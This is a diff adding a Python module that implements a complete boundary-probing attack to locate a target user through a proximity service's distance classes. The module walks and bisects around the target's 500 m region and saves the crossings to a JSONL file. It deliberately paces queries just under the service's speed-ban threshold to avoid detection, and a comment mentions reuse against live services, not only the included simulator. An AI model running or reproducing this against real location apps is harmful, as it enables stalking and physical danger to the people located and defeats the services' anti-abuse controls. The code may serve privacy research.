@@ -1,0 +1,419 @@
+"""Boundary-probing localization attack.
+
+A single walker circles the target's 500 m region: pick a random direction
+that stays inside, jump outward until the reported class flips to 1000 m,
+bisect the flip down to the configured accuracy, then walk back in and
+harvest the reverse crossing on the way. The walker keeps a virtual clock
+and advances it just enough per move to stay under the service's implied
+speed threshold, so a default run never gets banned.
+"""
+
+from __future__ import annotations
+
+import json
+import math
+import random
+from dataclasses import dataclass, field
+from enum import Enum
+
+from .geo import GeoPoint, destination, distance, midpoint
+from .service import QueryRejected
+
+INNER_CLASS_M = 500
+OUTER_CLASS_M = 1000
+PACE_MARGIN = 0.996  # walk at 99.6% of the ban threshold
+PACE_SPEED_MPS = 24.9  # default threshold 25 m/s times the margin
+PACE_IDLE_S = 1.0  # clock tick for a zero-displacement re-query
+START_PROBE_BUDGET = 48
+START_PROBE_RADIUS_M = 1_000.0
+DIRECTION_RETRIES = 32
+DEFAULT_TRANSITIONS = 30
+
+
+class TargetNotFoundError(RuntimeError):
+    """No position reporting the inner class was found near the hint."""
+
+
+class DirectionsExhaustedError(RuntimeError):
+    """All sampled bearings left the region after one jump."""
+
+
+class InconsistentOracleError(RuntimeError):
+    """A probe returned a class outside the expected 500/1000 pair.
+
+    Cannot happen against the deterministic simulator; guards reuse against
+    live services where a target may move mid-bisection.
+    """
+
+
+class AttackBannedError(RuntimeError):
+    """The service rejected a query mid-run; reports the offending step."""
+
+    def __init__(self, step: str, cause: QueryRejected):
+        super().__init__(f"banned during {step}: {cause.code}")
+        self.step = step
+        self.cause = cause
+
+
+class _BudgetExhausted(Exception):
+    pass
+
+
+class _WalkReset(Exception):
+    pass
+
+
+class Direction(str, Enum):
+    OUT = "OUT"  # 500 -> 1000
+    IN = "IN"  # 1000 -> 500
+
+
+@dataclass(frozen=True)
+class Transition:
+    """One localized class flip.
+
+    inside reports 500, outside reports 1000, regardless of the walk
+    direction; the straddle width is at most the configured accuracy.
+    """
+
+    inside: GeoPoint
+    outside: GeoPoint
+    bearing: float
+    direction: Direction
+    queries_spent: int
+
+    def midpoint(self) -> GeoPoint:
+        return midpoint(self.inside, self.outside)
+
+    def width_m(self) -> float:
+        return distance(self.inside, self.outside)
+
+
+@dataclass
+class ProbeConfig:
+    accuracy: float = 10.0
+    jump: float = 100.0
+    max_queries: int = 1000
+    reset_distance: float = 3000.0
+    speed_limit: float = 25.0
+    seed: int = 0
+
+    def __post_init__(self) -> None:
+        if self.accuracy <= 0:
+            raise ValueError("accuracy must be positive")
+        if self.jump <= self.accuracy:
+            raise ValueError("jump must exceed accuracy")
+
+
+@dataclass
+class TransitionSet:
+    """Attack output plus query accounting.
+
+    total_queries equals exploration_queries plus the sum of per-transition
+    queries_spent; together they match the service's admission ledger.
+    """
+
+    target: str
+    transitions: list[Transition] = field(default_factory=list)
+    exploration_queries: int = 0
+    total_queries: int = 0
+    budget_exhausted: bool = False
+
+    def __len__(self) -> int:
+        return len(self.transitions)
+
+    def spent_queries(self) -> int:
+        return sum(t.queries_spent for t in self.transitions)
+
+
+def pace(prev_pos: GeoPoint, next_pos: GeoPoint, prev_ts: float, speed: float = PACE_SPEED_MPS) -> float:
+    """Earliest next timestamp that keeps the implied speed under the ban
+    threshold; a zero displacement still ticks the clock by one second."""
+    d = distance(prev_pos, next_pos)
+    if d == 0.0:
+        return prev_ts + PACE_IDLE_S
+    return prev_ts + d / speed
+
+
+class ProbeSession:
+    """Stateful walker: pacing, budget and per-transition query accounting."""
+
+    def __init__(
+        self,
+        client,
+        target: str,
+        cfg: ProbeConfig | None = None,
+        start_ts: float = 0.0,
+        rng: random.Random | None = None,
+    ):
+        self.client = client
+        self.target = target
+        self.cfg = cfg or ProbeConfig()
+        self.rng = rng if rng is not None else random.Random(self.cfg.seed)
+        self.queries = 0
+        self.exploration_queries = 0
+        self._pending = 0
+        self._pos: GeoPoint | None = None
+        self._ts = start_ts
+        self._step = "start"
+
+    @property
+    def clock(self) -> float:
+        return self._ts
+
+    def query_class(self, pos: GeoPoint) -> int | None:
+        """Paced, budgeted query; returns the reported class for the target
+        or None when the target is not listed."""
+        if self.queries >= self.cfg.max_queries:
+            raise _BudgetExhausted
+        if self._pos is None:
+            ts = self._ts
+        else:
+            ts = pace(self._pos, pos, self._ts, speed=self.cfg.speed_limit * PACE_MARGIN)
+        try:
+            entries = self.client.search(pos, ts)
+        except QueryRejected as exc:
+            raise AttackBannedError(self._step, exc) from exc
+        self._pos = pos
+        self._ts = ts
+        self.queries += 1
+        self._pending += 1
+        for tid, cls in entries:
+            if tid == self.target:
+                return cls
+        return None
+
+    def _take_pending(self) -> int:
+        n = self._pending
+        self._pending = 0
+        return n
+
+    def discard_pending(self) -> None:
+        self.exploration_queries += self._take_pending()
+
+    # -- attack phases ------------------------------------------------------
+
+    def find_inward_start(self, hint: GeoPoint) -> GeoPoint:
+        """Find a position whose reported class is 500, probing a 1 km disc
+        around the hint after trying the hint itself."""
+        self._step = "find-start"
+        try:
+            if self.query_class(hint) == INNER_CLASS_M:
+                return hint
+            for _ in range(START_PROBE_BUDGET - 1):
+                r = START_PROBE_RADIUS_M * math.sqrt(self.rng.random())
+                cand = destination(hint, self.rng.uniform(0.0, 360.0), r)
+                if self.query_class(cand) == INNER_CLASS_M:
+                    return cand
+        finally:
+            self.discard_pending()
+        raise TargetNotFoundError(
+            f"no inner-class position within {START_PROBE_BUDGET} probes of the hint"
+        )
+
+    def choose_direction(self, pos: GeoPoint) -> tuple[float, GeoPoint]:
+        """Draw random bearings until one jump stays inside the region.
+
+        Returns the accepted bearing and the already-queried landing point.
+        """
+        self._step = "choose-direction"
+        try:
+            for _ in range(DIRECTION_RETRIES):
+                bearing = self.rng.uniform(0.0, 360.0)
+                cand = destination(pos, bearing, self.cfg.jump)
+                if self.query_class(cand) == INNER_CLASS_M:
+                    return bearing, cand
+        finally:
+            self.discard_pending()
+        raise DirectionsExhaustedError(f"{DIRECTION_RETRIES} bearings rejected from {pos}")
+
+    def probe_outward(self, anchor: GeoPoint, start: GeoPoint, bearing: float) -> tuple[GeoPoint, GeoPoint]:
+        """Jump along the bearing until the class flips to 1000; returns the
+        last-inside/first-outside pair. Resets when the walk strays farther
+        than reset_distance from the anchor."""
+        self._step = "probe-outward"
+        cur = start
+        while True:
+            nxt = destination(cur, bearing, self.cfg.jump)
+            if distance(anchor, nxt) > self.cfg.reset_distance:
+                self.discard_pending()
+                raise _WalkReset
+            cls = self.query_class(nxt)
+            if cls == OUTER_CLASS_M:
+                return cur, nxt
+            if cls == INNER_CLASS_M:
+                cur = nxt
+                continue
+            self.discard_pending()
+            raise InconsistentOracleError(f"class {cls!r} while probing outward at {nxt}")
+
+    def bisect_boundary(
+        self,
+        inside: GeoPoint,
+        outside: GeoPoint,
+        direction: Direction = Direction.OUT,
+        bearing: float = 0.0,
+    ) -> Transition:
+        """Binary-search the straddle down to cfg.accuracy and emit the
+        transition, charging it every query since the phase began."""
+        self._step = "bisect"
+        while distance(inside, outside) > self.cfg.accuracy:
+            mid = midpoint(inside, outside)
+            cls = self.query_class(mid)
+            if cls == INNER_CLASS_M:
+                inside = mid
+            elif cls == OUTER_CLASS_M:
+                outside = mid
+            else:
+                self.discard_pending()
+                raise InconsistentOracleError(f"class {cls!r} while bisecting at {mid}")
+        return Transition(
+            inside=inside,
+            outside=outside,
+            bearing=bearing,
+            direction=direction,
+            queries_spent=self._take_pending(),
+        )
+
+    def walk_inward(self, start_outside: GeoPoint, bearing: float) -> Transition:
+        """Walk back toward the region until the class flips to 500, then
+        bisect and emit the IN transition."""
+        self._step = "walk-inward"
+        cur = start_outside
+        walked = 0.0
+        while True:
+            nxt = destination(cur, bearing, self.cfg.jump)
+            walked += self.cfg.jump
+            if walked > self.cfg.reset_distance:
+                self.discard_pending()
+                raise _WalkReset
+            cls = self.query_class(nxt)
+            if cls == INNER_CLASS_M:
+                return self.bisect_boundary(nxt, cur, direction=Direction.IN, bearing=bearing)
+            if cls == OUTER_CLASS_M:
+                cur = nxt
+                continue
+            self.discard_pending()
+            raise InconsistentOracleError(f"class {cls!r} while walking inward at {nxt}")
+
+
+def collect_transitions(
+    client,
+    target: str,
+    hint: GeoPoint,
+    cfg: ProbeConfig | None = None,
+    n_transitions: int = DEFAULT_TRANSITIONS,
+    start_ts: float = 0.0,
+    rng: random.Random | None = None,
+) -> TransitionSet:
+    """Run the full attack loop until the requested transition count is
+    reached or the query budget runs out (partial set, flagged)."""
+    cfg = cfg or ProbeConfig()
+    sess = ProbeSession(client, target, cfg, start_ts=start_ts, rng=rng)
+    collected: list[Transition] = []
+    exhausted = False
+    try:
+        pos = sess.find_inward_start(hint)
+        while len(collected) < n_transitions:
+            try:
+                bearing, cand = sess.choose_direction(pos)
+            except DirectionsExhaustedError:
+                pos = sess.find_inward_start(pos)
+                continue
+            try:
+                inside, outside = sess.probe_outward(pos, cand, bearing)
+                t_out = sess.bisect_boundary(inside, outside, direction=Direction.OUT, bearing=bearing)
+            except _WalkReset:
+                continue  # pos is still a known inner-class position
+            collected.append(t_out)
+            if len(collected) >= n_transitions:
+                break
+            back = (bearing + 180.0) % 360.0
+            try:
+                t_in = sess.walk_inward(t_out.outside, back)
+            except _WalkReset:
+                pos = t_out.inside
+                continue
+            collected.append(t_in)
+            pos = t_in.inside
+    except _BudgetExhausted:
+        sess.discard_pending()
+        exhausted = True
+    return TransitionSet(
+        target=target,
+        transitions=collected,
+        exploration_queries=sess.exploration_queries,
+        total_queries=sess.queries,
+        budget_exhausted=exhausted,
+    )
+
+
+# -- transitions file format ---------------------------------------------
+
+
+def transition_record(target: str, t: Transition) -> dict:
+    return {
+        "target": target,
+        "inside": [t.inside.lat, t.inside.lon],
+        "outside": [t.outside.lat, t.outside.lon],
+        "bearing": t.bearing,
+        "dir": t.direction.value,
+        "queries": t.queries_spent,
+    }
+
+
+def write_transitions(path: str, tset: TransitionSet, config: dict | None = None) -> None:
+    """JSONL: a meta record first (accounting plus config echo), then one
+    record per transition."""
+    meta = {
+        "type": "meta",
+        "target": tset.target,
+        "total_queries": tset.total_queries,
+        "exploration_queries": tset.exploration_queries,
+        "budget_exhausted": tset.budget_exhausted,
+        "config": config or {},
+    }
+    with open(path, "w", encoding="utf-8") as fh:
+        fh.write(json.dumps(meta, sort_keys=True, separators=(",", ":")) + "\n")
+        for t in tset.transitions:
+            rec = transition_record(tset.target, t)
+            fh.write(json.dumps(rec, sort_keys=True, separators=(",", ":")) + "\n")
+
+
+def read_transitions(path: str) -> tuple[TransitionSet, dict]:
+    """Inverse of write_transitions; returns the set and the meta record."""
+    meta: dict = {}
+    transitions: list[Transition] = []
+    target = None
+    with open(path, encoding="utf-8") as fh:
+        for line in fh:
+            line = line.strip()
+            if not line:
+                continue
+            rec = json.loads(line)
+            if rec.get("type") == "meta":
+                meta = rec
+                target = rec.get("target")
+                continue
+            target = target or rec["target"]
+            transitions.append(
+                Transition(
+                    inside=GeoPoint(rec["inside"][0], rec["inside"][1]),
+                    outside=GeoPoint(rec["outside"][0], rec["outside"][1]),
+                    bearing=rec["bearing"],
+                    direction=Direction(rec["dir"]),
+                    queries_spent=rec["queries"],
+                )
+            )
+    if target is None:
+        raise ValueError(f"{path}: no transition records")
+    return (
+        TransitionSet(
+            target=target,
+            transitions=transitions,
+            exploration_queries=meta.get("exploration_queries", 0),
+            total_queries=meta.get("total_queries", 0),
+            budget_exhausted=meta.get("budget_exhausted", False),
+        ),
+        meta,
+    )
